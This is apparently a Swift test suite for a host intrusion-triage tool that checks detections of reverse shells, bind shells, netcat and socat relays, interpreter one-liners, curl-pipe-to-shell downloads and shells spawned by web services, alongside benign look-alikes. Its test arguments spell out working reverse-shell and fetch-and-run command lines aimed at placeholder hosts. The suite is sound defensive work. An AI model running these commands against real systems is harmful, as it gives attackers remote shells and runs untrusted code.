import CaseModel
import HostFacts
import Testing

@testable import Triage

/// Shells over the network, below services, and code from command lines.
@Suite struct ShellTests {
  var host = RunningHost()

  @Test(arguments: [
    ("/usr/bin/bash", ["bash", "-i"]), ("/usr/bin/dash", ["sh"]), ("/usr/bin/perl", ["perl", "-e", "x"]),
    ("/usr/bin/python3.11", ["python3", "/opt/a.py"]), ("/usr/bin/php8.2", ["php", "-r", "y"]), ("/tmp/w", ["w"]),
  ])
  func reverseShellIsFound(path: String, arguments: [String]) {
    var host = host
    host.add(400, path, arguments, package: path.hasPrefix("/usr") ? "some" : nil)
    host.connect(400, to: "203.0.113.7", 4443, on: [0, 1, 2])
    host.expect("process.network-shell", "T1059.004", .critical, naming: "203.0.113.7:4443")
    host.expect("process.network-shell", "T1095", .critical, naming: "pid 400")
  }

  @Test mutating func bindShellIsCalledSo() {
    host.add(401, "/usr/bin/nc.traditional", ["nc", "-lp", "9001"], package: "netcat")
    host.listen(401, .tcp, "0.0.0.0", 9001)
    host.add(402, "/usr/bin/dash", ["/bin/sh"], package: "dash", ppid: 401)
    host.connect(402, to: "198.51.100.4", 51000, from: 9001, on: [0, 1, 2])
    host.expect("process.network-shell", "T1059.004", .critical, naming: "bind shell")
  }

  @Test mutating func agentScriptOfSystemdSocketIsQuiet() {
    host.listen(1, .tcp, "0.0.0.0", 6556)
    host.add(403, "/usr/bin/bash", ["/bin/bash", "/usr/bin/check_mk_agent"], package: "bash")
    host.connect(403, to: "10.0.0.9", 50000, from: 6556, on: [0, 1])
    host.expectQuiet()
  }

  @Test mutating func loginsAndServersWithConnectionsAreQuiet() {
    host.add(404, "/usr/sbin/sshd", ["sshd: dev@pts/0"], package: "openssh-server", ppid: 700)
    host.connect(404, to: "198.51.100.20", 55000, from: 22, on: [4])
    host.add(405, "/usr/bin/bash", ["-bash"], package: "bash", ppid: 404, uid: 1000, terminal: 34816)
    host.add(406, "/usr/bin/python3.11", ["python3", "/opt/app/main.py"], package: "python3", uid: 990)
    host.connect(406, to: "203.0.113.80", 443)
    host.add(
      407, "/usr/bin/python3.11", ["python3", "-m", "http.server"], package: "python3", ppid: 405, uid: 1000,
      terminal: 34816)
    host.listen(407, .tcp, "0.0.0.0", 8000)
    host.add(
      408, "/home/dev/.vscode-server/bin/x/node", ["node", "/home/dev/.vscode-server/bin/x/out/server-main.js"],
      uid: 1000)
    host.connect(408, to: "127.0.0.1", 44000)
    host.add(
      409, "/usr/bin/bash", ["/bin/bash", "--init-file", "x"], package: "bash", ppid: 408, uid: 1000, terminal: 34817)
    host.add(
      410, "/usr/bin/nc.openbsd", ["nc", "-X", "connect", "-x", "proxy:3128", "host", "22"], package: "netcat",
      ppid: 405, uid: 1000, terminal: 34816)
    host.connect(410, to: "203.0.113.6", 3128)
    host.expectQuiet()
  }

  @Test mutating func shellBehindPipesOfRelayIsFound() {
    host.add(411, "/usr/bin/cat", ["cat", "/tmp/f"], package: "coreutils")
    host.add(412, "/usr/bin/dash", ["sh", "-i"], package: "dash")
    host.add(413, "/usr/bin/nc.openbsd", ["nc", "203.0.113.7", "443"], package: "netcat")
    host.connect(413, to: "203.0.113.7", 443, on: [3])
    host.pipe((411, 1), (412, 0))
    host.pipe((412, 1), (413, 0))
    host.expect("process.bridged-shell", "T1095", .critical, naming: "pid 413")
  }

  @Test mutating func terminalOfInlineInterpreterIsFound() {
    host.add(414, "/usr/bin/python3.11", ["python3", "-c", "x"], package: "python3")
    host.connect(414, to: "203.0.113.7", 443, on: [3])
    host.add(415, "/usr/bin/bash", ["/bin/bash"], package: "bash", ppid: 414, terminal: 34820)
    host.expect("process.bridged-shell", "T1059.004", .critical, naming: "pid 415")
  }

  @Test mutating func automationOverPipesIsQuiet() {
    host.add(416, "/usr/bin/java", ["java", "-jar", "agent.jar"], package: "openjdk", uid: 120)
    host.connect(416, to: "10.0.0.30", 8080)
    host.add(
      417, "/usr/bin/bash", ["/bin/bash", "-e", "/var/lib/jenkins/script.sh"], package: "bash", ppid: 416, uid: 120)
    host.pipe((416, 9), (417, 0))
    host.pipe((417, 1), (416, 10))
    host.expectQuiet()
  }

  @Test mutating func terminalsOfNotebooksAreQuiet() {
    host.add(416, "/usr/bin/python3.11", ["python3", "-m", "jupyterlab"], package: "python3", uid: 1000)
    host.connect(416, to: "10.0.0.30", 50123, from: 8888)
    host.add(417, "/usr/bin/bash", ["/bin/bash", "-l"], package: "bash", ppid: 416, uid: 1000, terminal: 34822)
    host.expectQuiet()
  }

  @Test(arguments: [
    ("/usr/bin/nc.traditional", ["nc", "-lvp", "4444", "-e", "/bin/sh"]),
    ("/usr/bin/ncat", ["ncat", "-c", "/bin/bash", "203.0.113.1", "1"]),
    ("/usr/bin/socat", ["socat", "TCP-LISTEN:99,fork", "EXEC:/bin/sh,pty"]),
    ("/opt/x/y", ["y", "exec:bash,pty", "tcp:203.0.113.1:9"]),
  ])
  func relayWithProgramIsFound(path: String, arguments: [String]) {
    var host = host
    host.add(418, path, arguments, package: "p")
    host.expect("process.relay-execution", "T1059.004", naming: "pid 418")
  }

  @Test mutating func plainForwardIsQuiet() {
    host.add(418, "/usr/bin/socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:10.0.0.2:80"], package: "socat", uid: 65534)
    host.listen(418, .tcp, "0.0.0.0", 8080)
    host.expectQuiet()
  }

  @Test(
    arguments: [
      (
        "/usr/bin/python3.11", ["python3", "-c", "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"],
        "T1059.006"
      ),
      ("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.3/8080 0>&1"], "T1059.004"),
      ("/usr/bin/perl", ["perl", "-MIO", "-e", "$c=new IO::Socket::INET();exec \"/bin/sh\""], "T1059"),
      ("/usr/bin/php8.2", ["php", "-r", "$s=fsockopen(\"x\",1);proc_open(\"sh\",[$s],$p);"], "T1059"),
    ] as [(String, [String], Technique)])
  func oneLinerIsFound(path: String, arguments: [String], technique: Technique) {
    var host = host
    host.add(419, path, arguments, package: "p")
    host.expect("process.inline-network-code", technique, naming: "pid 419")
  }

  @Test mutating func healthChecksAreQuiet() {
    host.add(419, "/usr/bin/bash", ["bash", "-c", "</dev/tcp/127.0.0.1/5432"], package: "bash")
    host.add(
      420, "/usr/bin/python3.11", ["python3", "-c", "import socket; print(socket.gethostname())"], package: "python3")
    host.add(
      427, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/localhost/9000; echo GET >&3; cat <&3"], package: "bash")
    host.add(428, "/usr/bin/dash", ["sh", "-c", "exec mysqldump --socket=/run/m.sock 2>&1"], package: "dash")
    host.expectQuiet()
  }

  @Test(arguments: [
    "curl -s http://203.0.113.5/a | bash", "wget -qO- http://h.test/x|sudo sh", "sh <(curl -s http://h.test/z)",
    "curl http://h.test/p | base64 -d | python3",
  ])
  func downloadRunAtOnceIsFound(code: String) {
    var host = host
    host.add(421, "/usr/bin/dash", ["sh", "-c", code], package: "dash")
    host.expect("process.fetch-and-run", "T1105", naming: "pid 421")
  }

  @Test mutating func downloadPipeIsFoundByItsEnds() {
    host.add(422, "/usr/bin/curl", ["curl", "http://203.0.113.5/a"], package: "curl")
    host.add(423, "/usr/bin/bash", ["bash"], package: "bash")
    host.pipe((422, 1), (423, 0))
    host.expect("process.fetch-and-run", "T1105", naming: "http://203.0.113.5/a")
  }

  @Test mutating func installersAndFallbacksAreQuiet() {
    host.add(
      421, "/usr/bin/bash", ["bash", "-c", "curl -sSf https://sh.rustup.rs | sh"], package: "bash", uid: 1000,
      terminal: 34816)
    host.add(
      424, "/usr/bin/dash", ["sh", "-c", "curl -fsS http://localhost/health || bash /opt/restart"], package: "dash")
    host.expectQuiet()
  }

  @Test mutating func collectorsOwnBootstrapIsQuiet() {
    host.add(425, "/usr/bin/bash", ["bash", "-c", "curl https://x.test/collector | sh"], package: "bash")
    host.add(426, "/memfd:collector", ["needletail-collector"], ppid: 425) { $0.isCollector = true }
    host.expectQuiet()
  }

  @Test(arguments: [
    ("/usr/sbin/php-fpm8.2", ["sh", "-i"]), ("/usr/sbin/nginx", ["sh", "-c", "ls"]),
    ("/usr/bin/redis-server", ["sh", "-c", "crontab x"]),
    ("/usr/sbin/apache2", ["sh", "-c", "curl http://h.test/x | sh"]),
  ])
  func shellBelowServiceIsFound(service: String, arguments: [String]) {
    var host = host
    host.add(430, service, package: "service", uid: 33)
    host.add(431, "/usr/bin/dash", arguments, package: "dash", ppid: 430, uid: 33)
    host.expect("process.service-shell", "T1190", naming: service)
  }

  @Test mutating func databaseWithNetworkToolIsFound() {
    host.add(430, "/usr/lib/postgresql/15/bin/postgres", ["postgres: shop"], package: "postgresql-15", uid: 110)
    host.add(431, "/usr/bin/dash", ["sh", "-c", "wget -O /tmp/x h.test"], package: "dash", ppid: 430, uid: 110)
    host.add(432, "/usr/bin/wget", ["wget", "-O", "/tmp/x", "h.test"], package: "wget", ppid: 431, uid: 110)
    host.expect("process.service-shell", "T1190", .medium, naming: "/usr/bin/wget")
  }

  @Test mutating func helpersOfServicesAreQuiet() {
    host.add(430, "/usr/lib/postgresql/15/bin/postgres", ["postgres: archiver"], package: "postgresql-15", uid: 110)
    host.add(
      431, "/usr/bin/dash", ["sh", "-c", "test ! -f /b/1 && cp pg_wal/1 /b/1"], package: "dash", ppid: 430, uid: 110)
    host.add(432, "/usr/sbin/php-fpm8.2", package: "php", uid: 33)
    host.add(433, "/usr/bin/dash", ["sh", "-c", "convert a.png -resize 80 b.png"], package: "dash", ppid: 432, uid: 33)
    host.add(434, "/usr/bin/java", ["java", "-jar", "jenkins.war"], package: "openjdk", uid: 120)
    host.add(435, "/usr/bin/bash", ["/bin/bash", "-xe", "/tmp/jenkins1.sh"], package: "bash", ppid: 434, uid: 120)
    host.expectQuiet()
  }

  @Test mutating func terminalOfServiceAccountIsFound() {
    var account = AccountRecord(name: "www-data", uid: 33, gid: 33, source: "/etc/passwd")
    account.shell = "/usr/sbin/nologin"
    host.picture.add(.account(account))
    host.add(440, "/usr/bin/bash", ["bash"], package: "bash", uid: 33, terminal: 34830)
    host.expect("process.service-account-terminal", "T1505.003", naming: "www-data")
  }

  @Test mutating func administratorInServiceAccountIsQuiet() {
    var account = AccountRecord(name: "www-data", uid: 33, gid: 33, source: "/etc/passwd")
    account.shell = "/usr/sbin/nologin"
    host.picture.add(.account(account))
    host.add(441, "/usr/bin/su", ["su", "-s", "/bin/bash", "www-data"], package: "util-linux", terminal: 34830)
    host.add(440, "/usr/bin/bash", ["bash"], package: "bash", ppid: 441, uid: 33, terminal: 34830)
    host.expectQuiet()
  }
}
